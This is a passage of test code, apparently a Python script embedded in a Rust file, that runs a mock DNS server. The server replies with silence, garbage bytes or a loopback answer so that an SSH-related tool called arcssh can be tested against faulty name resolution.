# The shell that runs arcssh has the other end of standard input.
while sys.stdin not in select.select([server, sys.stdin], [], [])[0]:
    query, client = server.recvfrom(512)
    if kind == "silence":
        continue
    if kind == "garbage":
        server.sendto(b"\xff" * 40, client)
        continue
    end = query.index(b"\0", 12) + 5
    wants_ipv4 = query[end - 4:end - 2] == b"\0\1"
    answers = 1 if kind == "loopback" and wants_ipv4 else 0
    head = query[:2] + struct.pack(">HHHHH", 0x8180 | codes[kind], 1, answers, 0, 0)
    answer = b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x7f\0\0\2" if answers else b""
    server.sendto(head + query[12:end] + answer, client)
"#;
